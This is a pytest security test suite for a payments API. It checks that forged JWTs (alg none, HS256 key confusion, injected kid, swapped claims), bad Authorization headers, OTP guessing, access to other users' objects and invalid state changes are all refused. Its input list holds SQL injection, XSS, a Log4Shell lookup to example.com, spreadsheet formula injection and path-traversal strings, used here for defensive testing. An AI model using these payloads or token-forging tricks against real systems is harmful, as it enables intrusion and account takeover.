"""Who may not ask, and who asks for what cannot be: tokens, codes, others' objects, wrong states.

Tokens are forged with the house's own signing key where the signature must hold, so that nothing
but the one thing that is wrong with them can be what refuses them.
"""

from __future__ import annotations

import asyncio
import base64
import hashlib
import hmac
import itertools
import json
import secrets
import time
from collections.abc import Callable
from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from tests.house import House, Reply, new_key, until
from tests.http.doors import NOWHERE, Books, assert_refused, call, fresh_pan, raw_post
from tests.vault.opened import opened_vault

_phones = itertools.count(1)


def encoded(raw: bytes | dict[str, Any]) -> str:
    """Return base64url of bytes, or of JSON."""
    if isinstance(raw, dict):
        raw = json.dumps(raw).encode()
    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()


class Forger:
    """Signs what the house would never sign, with the house's own key."""

    def __init__(self, kid: str, key: Ed25519PrivateKey, claims: dict[str, Any]) -> None:
        self.kid = kid
        self.key = key
        self.claims = claims

    def token(
        self,
        claims: dict[str, Any] | None = None,
        header: dict[str, Any] | None = None,
        key: Ed25519PrivateKey | None = None,
    ) -> str:
        """Return a token that is good but for what is given; None takes a claim away."""
        said = self.claims | {"jti": secrets.token_hex(8)} | (claims or {})
        said = {name: value for name, value in said.items() if value is not None}
        head = {"alg": "EdDSA", "typ": "at+jwt", "kid": self.kid} | (header or {})
        signed = f"{encoded(head)}.{encoded(said)}"
        return f"{signed}.{encoded((key or self.key).sign(signed.encode()))}"

    @property
    def public(self) -> bytes:
        return self.key.public_key().public_bytes_raw()


@pytest.fixture(scope="module")
async def forger(house: House) -> Forger:
    (row,) = await house.rows("SELECT kid, private_key FROM signing_keys")
    vault = await opened_vault(house)
    opened = vault.open(row["private_key"], bound_to=f"signing_keys|private_key|{row['kid']}")
    raw = base64.urlsafe_b64decode(opened + "=")
    payload = house.user(0)["access_token"].split(".")[1]
    claims = json.loads(base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4)))
    return Forger(row["kid"], Ed25519PrivateKey.from_private_bytes(raw), claims)


async def ask(house: House, door: str, *lines: bytes) -> Reply | None:
    """Ask at a door with these header lines and no other authorization."""
    if door == "list":
        raw = [b"GET /v1/payments HTTP/1.1", b"Host: oqim", *lines, b"", b""]
    else:
        body = json.dumps(house.purchase(0, "humo", 10_000)).encode()
        path = {"pay": b"/v1/payments", "quote": b"/v1/payments/quote"}[door]
        raw = [
            b"POST " + path + b" HTTP/1.1",
            b"Host: oqim",
            b"Content-Type: application/json",
            b"Content-Length: %d" % len(body),
            b"Idempotency-Key: " + new_key().encode(),
            *lines,
            b"",
            body,
        ]
    return await house.send(b"\r\n".join(raw), within_s=5.0)


DOORS = ["list", "pay", "quote"]
NOW = int(time.time())
FORGED: dict[str, Callable[[Forger], str]] = {
    "43 expired": lambda one: one.token({"iat": NOW - 600, "exp": NOW - 1}),
    "43 without an end": lambda one: one.token({"exp": None}),
    "43 an end that is text": lambda one: one.token({"exp": str(NOW + 600)}),
    "43 an end that is a fraction": lambda one: one.token({"exp": NOW + 600.5}),
    "44 issued in the future": lambda one: one.token({"iat": NOW + 3_600, "exp": NOW + 7_200}),
    "44 not before the future": lambda one: one.token({"nbf": NOW + 3_600}),
    "45 alg none, unsigned": lambda one: (
        f"{encoded({'alg': 'none', 'typ': 'at+jwt'})}.{encoded(one.claims)}."
    ),
    "45 alg none": lambda one: one.token(header={"alg": "none"}),
    "45 alg nOnE": lambda one: one.token(header={"alg": "nOnE"}),
    "45 alg absent": lambda one: one.token(header={"alg": ""}),
    "46 HS256 with the public key": lambda one: hs256(one),
    "47 jku": lambda one: one.token(header={"jku": "https://example.com/jwks.json"}),
    "47 x5u": lambda one: one.token(header={"x5u": "https://example.com/cert"}),
    "47 a key of its own": lambda one: stranger(one, with_jwk=True),
    "47 signed by a stranger": lambda one: stranger(one, with_jwk=False),
    "47 kid of a path": lambda one: one.token(header={"kid": "../../" + one.kid}),
    "47 kid of SQL": lambda one: one.token(header={"kid": "' OR 1=1 --"}),
    "47 crit": lambda one: one.token(header={"crit": ["exp"]}),
    "48 another audience": lambda one: one.token({"aud": "other-api"}),
    "48 no audience": lambda one: one.token({"aud": None}),
    "48 another issuer": lambda one: one.token({"iss": "https://example.com"}),
    "48 an ID token": lambda one: one.token(header={"typ": "JWT"}),
    "49 a signature of zeros": lambda one: spoilt(one, encoded(bytes(64))),
    "49 no signature": lambda one: spoilt(one, ""),
    "49 half a signature": lambda one: spoilt(one, encoded(bytes(32))),
    "49 padded": lambda one: one.token() + "==",
    "49 an extra dot": lambda one: one.token() + ".",
    "49 an extra part": lambda one: one.token() + ".e30",
    "49 no dots": lambda one: one.token().replace(".", ""),
    "49 other claims": lambda one: swapped(one),
    "51 over 4 KiB": lambda one: one.token({"scope": " ".join(["payments:write"] * 250)}),
}


def hs256(forger: Forger) -> str:
    head = {"alg": "HS256", "typ": "at+jwt", "kid": forger.kid}
    signed = f"{encoded(head)}.{encoded(forger.claims)}"
    mac = hmac.new(forger.public, signed.encode(), hashlib.sha256)
    return f"{signed}.{encoded(mac.digest())}"


def stranger(forger: Forger, *, with_jwk: bool) -> str:
    key = Ed25519PrivateKey.generate()
    jwk = {"kty": "OKP", "crv": "Ed25519", "x": encoded(key.public_key().public_bytes_raw())}
    return forger.token(header={"jwk": jwk} if with_jwk else {}, key=key)


def spoilt(forger: Forger, signature: str) -> str:
    return forger.token().rpartition(".")[0] + "." + signature


def swapped(forger: Forger) -> str:
    head, _, signature = forger.token().split(".")
    return f"{head}.{encoded(forger.claims | {'scope': 'admin:rules:approve'})}.{signature}"


async def test_a_forged_token_that_is_right_is_believed(house: House, forger: Forger) -> None:
    """What the rows below rest on: nothing but their one fault refuses them."""
    reply = await ask(house, "list", b"Authorization: Bearer " + forger.token().encode())
    assert reply is not None
    assert reply.status == 200, reply.raw


@pytest.mark.usefixtures("books")
@pytest.mark.parametrize("what", FORGED)
async def test_a_forged_token_is_refused(house: House, forger: Forger, what: str) -> None:
    """Rows 43 to 51, where the core authorizes and where it admits."""
    token = FORGED[what](forger)
    for door in DOORS:
        reply = await ask(house, door, b"Authorization: Bearer " + token.encode())
        assert_refused(reply, 401, "invalid-token")
        assert reply is not None
        assert reply.headers["www-authenticate"] == 'Bearer error="invalid_token"'
        assert token.encode() not in reply.raw


AUTHORIZATIONS: list[tuple[int, list[bytes], int, str]] = [
    (40, [], 401, "unauthenticated"),
    (41, [b"Basic b3FpbTpzYW5kYm94"], 401, "invalid-token"),
    (41, [b"Bearer"], 401, "invalid-token"),
    (41, [b"Bearer "], 401, "invalid-token"),
    (41, [b"Token abc"], 401, "invalid-token"),
    (41, [b"Bearer a b"], 401, "invalid-token"),
    (41, [b""], 401, "invalid-token"),
    (41, [b"Bearer \xff\xfe"], 401, "invalid-token"),
    (42, [b"Bearer abc", b"Bearer abc"], 400, "invalid-request"),
    (51, [b"Bearer " + b"a" * 9_000], 431, "header-too-large"),
]


@pytest.mark.usefixtures("books")
@pytest.mark.parametrize(("row", "values", "status", "slug"), AUTHORIZATIONS)
@pytest.mark.parametrize("door", DOORS)
async def test_authorization_is_one_bearer_token(
    house: House, door: str, row: int, values: list[bytes], status: int, slug: str
) -> None:
    """Rows 40 to 42 and 51."""
    lines = [b"Authorization: " + value for value in values]
    assert_refused(await ask(house, door, *lines), status, slug)


async def test_a_token_in_the_query_is_refused(house: House) -> None:
    """Row 41: what stands in a URL stands in logs (RFC 9700, 4.3.2)."""
    token = house.user(0)["access_token"]
    reply = await call(house, "GET", f"/v1/payments?access_token={token}", token=token)
    assert_refused(reply, 400, "invalid-query")
    assert token.encode() not in reply.raw


# Logging in ---------------------------------------------------------------------------------------

OTP = "urn:oqim:params:oauth:grant-type:otp"


def fresh_phone() -> str:
    return f"+99890555{next(_phones):04}"


async def challenge(house: House, phone: str) -> tuple[str, str]:
    """Ask for a code; return the challenge and the code that was sent."""
    reply = await call(house, "POST", "/v1/auth/challenges", {"phone": phone})
    assert reply.status == 201, reply.raw
    sent = await call(house, "GET", f"/sandbox/v1/messages?to={phone.replace('+', '%2B')}")
    return reply.body["challenge_id"], sent.body["data"][0]["code"]


async def exchange(house: House, challenge_id: str, code: str) -> Reply:
    form = {
        "grant_type": OTP,
        "challenge_id": challenge_id,
        "code": code,
        "device_id": "test",
        "client_id": "mobile",
    }
    return await call(house, "POST", "/oauth/token", data=form)


def other(code: str) -> str:
    """Return a code of the same form that was not sent."""
    return ("B" if code[0] == "A" else "A") + code[1:]


async def test_a_revoked_token_is_refused_by_every_worker(house: House) -> None:
    """Row 50: on connections of their own, so that each worker is asked."""
    reply = await exchange(house, *await challenge(house, fresh_phone()))
    assert reply.status == 200, reply.raw
    token = reply.body["access_token"]
    line = b"Authorization: Bearer " + token.encode()
    before = await ask(house, "list", line)
    assert before is not None
    assert before.status == 200, before.raw
    revoked = await call(house, "POST", "/oauth/revoke", data={"token": token})
    assert revoked.status == 200, revoked.raw

    async def is_refused() -> bool:
        replies = await asyncio.gather(*(ask(house, "list", line) for _ in range(16)))
        return all(one is not None and one.status == 401 for one in replies)

    await until(is_refused, within_s=5)
    assert_refused(await ask(house, "pay", line), 401, "invalid-token")


async def test_a_code_is_tried_thrice_and_used_once(house: House) -> None:
    """Rows 31, 32 and 34."""
    challenge_id, code = await challenge(house, fresh_phone())
    assert (await exchange(house, challenge_id, code)).status == 200
    assert_refused(await exchange(house, challenge_id, code), 409, "otp-already-used")
    challenge_id, code = await challenge(house, fresh_phone())
    for _ in range(3):
        assert_refused(await exchange(house, challenge_id, other(code)), 422, "otp-invalid")
    locked = await exchange(house, challenge_id, code)
    assert_refused(locked, 429, "otp-locked")
    assert int(locked.headers["retry-after"]) > 60, "the right code does not help any more"


async def test_a_code_belongs_to_its_challenge(house: House) -> None:
    """Another's code, and a challenge that never was."""
    first, _ = await challenge(house, fresh_phone())
    second, code = await challenge(house, fresh_phone())
    assert_refused(await exchange(house, first, code), 422, "otp-invalid")
    for made_up in ("chl_x", second[:-1], "", "chl_" + "0" * 26 + "_" + "0" * 16):
        assert_refused(await exchange(house, made_up, code), 400, "invalid-grant")
    assert (await exchange(house, second, code)).status == 200


async def test_a_code_is_not_sent_again_at_once(house: House) -> None:
    """Row 80."""
    phone = fresh_phone()
    await challenge(house, phone)
    reply = await call(house, "POST", "/v1/auth/challenges", {"phone": phone})
    assert_refused(reply, 429, "rate-limited")


async def test_a_cards_code_is_tried_thrice(house: House) -> None:
    """Rows 31 and 32 for a card; until it is active nothing can be paid from it."""
    token = house.user(33)["access_token"]
    body = {"pan": fresh_pan("98600901"), "expiry": "40-12"}
    added = await call(house, "POST", "/v1/cards", body, token=token)
    assert added.status == 201, added.raw
    card = added.body["id"]
    pay = house.purchase(33, "humo", 10_000) | {"source": {"card": card}}
    reply = await call(house, "POST", "/v1/payments", pay, token=token, key=new_key())
    assert_refused(reply, 409, "card-not-active")
    for _ in range(3):
        reply = await call(
            house, "POST", f"/v1/cards/{card}/verify", {"code": "000000"}, token=token
        )
        assert_refused(reply, 422, "otp-invalid")
    reply = await call(house, "POST", f"/v1/cards/{card}/verify", {"code": "000000"}, token=token)
    assert_refused(reply, 429, "otp-locked")
    # Row 30: another's card, and one that was removed.
    theirs = house.user(34)["access_token"]
    for method, path in (
        ("GET", f"/v1/cards/{card}"),
        ("DELETE", f"/v1/cards/{card}"),
        ("GET", f"/v1/limits?card={card}"),
    ):
        assert_refused(await call(house, method, path, token=theirs), 404, "not-found")
    assert (await call(house, "DELETE", f"/v1/cards/{card}", token=token)).status == 204
    assert_refused(await call(house, "GET", f"/v1/cards/{card}", token=token), 404, "not-found")
    reply = await call(house, "POST", "/v1/payments", pay, token=token, key=new_key())
    assert_refused(reply, 404, "not-found")


async def test_a_card_is_usable_everywhere_once_it_is_verified(house: House) -> None:
    """That it was refused before is remembered by no worker; each is asked, before and after."""
    user = house.user(32)
    token = user["access_token"]
    body = {"pan": fresh_pan("98600903"), "expiry": "40-12"}
    added = await call(house, "POST", "/v1/cards", body, token=token)
    assert added.status == 201, added.raw
    card = added.body["id"]
    pay = house.purchase(32, "humo", 10_000) | {"source": {"card": card}}

    async def pay_everywhere() -> list[str]:
        raw = json.dumps(pay).encode()
        replies = [
            house.send(
                raw_post(
                    house,
                    "/v1/payments/quote",
                    raw,
                    token=token,
                )
            )
            for _ in range(16)
        ]
        answers = [one for one in await asyncio.gather(*replies) if one is not None]
        return [one.code or str(one.status) for one in answers]

    assert await pay_everywhere() == ["card-not-active"] * 16
    path = f"/sandbox/v1/messages?to={user['phone'].replace('+', '%2B')}"
    code = (await call(house, "GET", path)).body["data"][0]["code"]
    verified = await call(house, "POST", f"/v1/cards/{card}/verify", {"code": code}, token=token)
    assert verified.status == 200, verified.raw
    assert await pay_everywhere() == ["200"] * 16
    assert (await call(house, "DELETE", f"/v1/cards/{card}", token=token)).status == 204


# What one may not, and what cannot be -------------------------------------------------------------


@pytest.mark.usefixtures("books")
async def test_a_scope_is_needed(house: House) -> None:
    """Row 53: a narrowed token, a customer who would pay out, an operator who would pay."""
    form = {
        "grant_type": "client_credentials",
        "client_id": house.merchant["client_id"],
        "client_secret": house.merchant["client_secret"],
        "scope": "payments:read",
    }
    narrow = (await call(house, "POST", "/oauth/token", data=form)).body["access_token"]
    purchase = house.purchase(0, "humo", 10_000)
    payout = {
        "operation": "payout",
        "amount": 10_000,
        "currency": "UZS",
        "destination": {"card": house.user(1)["cards"]["humo"]},
    }
    operator = house.description["operators"][0]["access_token"]
    for token, body in (
        (narrow, payout),
        (house.user(0)["access_token"], payout),
        (operator, purchase),
    ):
        reply = await call(house, "POST", "/v1/payments", body, token=token, key=new_key())
        assert_refused(reply, 403, "insufficient-scope")
        assert reply.headers["www-authenticate"].startswith("Bearer error=")
    reply = await call(house, "GET", "/v1/cards", token=narrow)
    assert_refused(reply, 403, "insufficient-scope")


@pytest.mark.usefixtures("books")
async def test_a_limit_is_named(house: House) -> None:
    """Row 77: which limit, and nothing of anybody else's."""
    reply = await house.pay(0, house.purchase(0, "humo", 10**15))
    problem = assert_refused(reply, 422, "limit-exceeded")
    assert {one["pointer"] for one in problem["errors"]} == {"/amount"}
    for user in range(1, 50):
        assert house.user(user)["id"] not in reply.raw.decode()


async def test_anothers_payment_is_as_one_that_is_not(house: House) -> None:
    """Row 54: the same bytes but for the request's id, whatever is asked of it."""
    paid = await house.pay(35, house.purchase(35, "humo", 2_000_000))
    assert paid.status == 201, paid.raw
    theirs = house.user(36)["access_token"]
    for method, action in (
        ("GET", ""),
        ("GET", "/refunds"),
        ("POST", "/refunds"),
        ("POST", "/capture"),
        ("POST", "/cancel"),
    ):
        answers = []
        for name in (paid.body["id"], NOWHERE):
            reply = await call(
                house,
                method,
                f"/v1/payments/{name}{action}",
                token=theirs,
                key=new_key() if method == "POST" else None,
                headers={"X-Request-Id": "same"},
            )
            assert_refused(reply, 404, "not-found")
            answers.append(reply.raw)
        assert answers[0] == answers[1], f"{method} {action} tells that it exists"
    # A merchant sees what was paid to it, and a customer's list only what is theirs.
    listed = await call(house, "GET", "/v1/payments?limit=100", token=theirs)
    assert paid.body["id"] not in listed.raw.decode()


async def test_a_cursor_is_good_for_its_list_alone(house: House) -> None:
    """Row 71: one byte changed, another filter, another owner."""
    for _ in range(2):
        paid = await house.pay(37, house.purchase(37, "humo", 1_000_000))
        assert paid.status == 201, paid.raw
    token = house.user(37)["access_token"]
    page = await call(house, "GET", "/v1/payments?limit=1", token=token)
    cursor = page.body["next_cursor"]
    path = f"/v1/payments?limit=1&cursor={cursor}"
    assert (await call(house, "GET", path, token=token)).status == 200
    changed = cursor[:-2] + ("AA" if cursor[-2:] != "AA" else "BB")
    for refused, who in (
        (f"/v1/payments?limit=1&cursor={changed}", token),
        (f"/v1/payments?limit=1&cursor={cursor}&status=failed", token),
        (f"/v1/cards?cursor={cursor}", token),
        (path, house.user(36)["access_token"]),
    ):
        assert_refused(await call(house, "GET", refused, token=who), 400, "invalid-cursor")


async def test_a_state_does_not_permit_everything(house: House) -> None:
    """Rows 75 and 76; what is refused moves nothing."""
    token = house.user(38)["access_token"]

    async def act(payment: str, action: str, body: Any = None) -> Reply:
        path = f"/v1/payments/{payment}/{action}"
        return await call(house, "POST", path, body, token=token, key=new_key())

    paid = (await house.pay(38, house.purchase(38, "humo", 1_000_000))).body["id"]
    held = house.purchase(38, "humo", 1_000_000, capture="manual")
    canceled = (await house.pay(38, held)).body["id"]
    assert (await act(canceled, "cancel")).status == 200
    waiting = (await house.pay(38, held)).body["id"]
    async with house.fault("humo", kind="decline", count=1):
        declined = await house.pay(38, house.purchase(38, "humo", 1_000_000))
    assert (declined.status, declined.body["status"]) == (201, "failed"), declined.raw
    failed = declined.body["id"]
    books = Books(house)
    await books.open()
    for payment, action, body, status, slug in (
        (paid, "capture", None, 409, "invalid-state"),
        (paid, "cancel", None, 409, "invalid-state"),
        (paid, "refunds", {"amount": 1_000_001}, 422, "refund-exceeds-captured"),
        (canceled, "capture", None, 409, "invalid-state"),
        (canceled, "cancel", None, 409, "invalid-state"),
        (canceled, "refunds", None, 409, "invalid-state"),
        (failed, "capture", None, 409, "invalid-state"),
        (failed, "cancel", None, 409, "invalid-state"),
        (failed, "refunds", None, 409, "invalid-state"),
        (waiting, "refunds", None, 409, "invalid-state"),
        (waiting, "capture", {"amount": 1_000_001}, 422, "capture-exceeds-authorized"),
    ):
        reply = await act(payment, action, body)
        try:
            assert_refused(reply, status, slug)
        except AssertionError as wrong:
            raise AssertionError(f"{action} {body}: {wrong}") from wrong
    await books.assert_untouched()
    assert (await act(waiting, "cancel")).status == 200, "it is as it was"


TEXTS = [
    "'; DROP TABLE payments; --",
    "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
    "%s%n%x {0.__class__}",
    "${jndi:ldap://example.com/a}",
    "<script>alert(1)</script>",
    "=cmd()|' /C calc'!A0",
    "../../etc/passwd",
    "\U0001f4b3 \u045e\u0437\u0431\u0435\u043a\u0447\u0430 \u6f22 e\u0301",
    "\\u0000 \\n",
]


@pytest.mark.parametrize("text", TEXTS)
async def test_a_text_is_only_a_text(house: House, text: str) -> None:
    """Row 67: kept and given back as it came, to the last byte."""
    body = house.purchase(39, "humo", 100_000, description=text, metadata={"note": text})
    paid = await house.pay(39, body)
    assert paid.status == 201, paid.raw
    token = house.user(39)["access_token"]
    reply = await call(house, "GET", f"/v1/payments/{paid.body['id']}", token=token)
    assert (reply.body["description"], reply.body["metadata"]) == (text, {"note": text})


async def test_nothing_secret_was_logged(house: House) -> None:
    """Neither a number nor a token stands in any worker's log, whatever was done with them."""
    pan = fresh_pan("98600902")
    secret = "zq7" + secrets.token_hex(16)
    token = house.user(33)["access_token"]
    body = json.dumps({"pan": pan, "expiry": "20-01", "note": secret}).encode()
    assert_refused(await house.send(raw_post(house, "/v1/cards", body)), 422, "unknown-member")
    body = json.dumps({"pan": pan, "expiry": "20-01"}).encode()
    assert_refused(await house.send(raw_post(house, "/v1/cards", body)), 422, "invalid-expiry")
    bad = raw_post(house, "/v1/payments", b"{", token=secret)
    assert_refused(await house.send(bad), 401, "invalid-token")
    added = await call(house, "POST", "/v1/cards", {"pan": pan, "expiry": "40-12"}, token=token)
    assert added.status == 201, added.raw
    assert pan.encode() not in added.raw
    logs = list((house.data_dir / "logs").glob("worker-*.log"))
    assert logs, "the workers log"
    for path in logs:
        text = path.read_text()
        for kept in (pan, secret, token):
            assert kept not in text, f"{path.name} holds a secret"
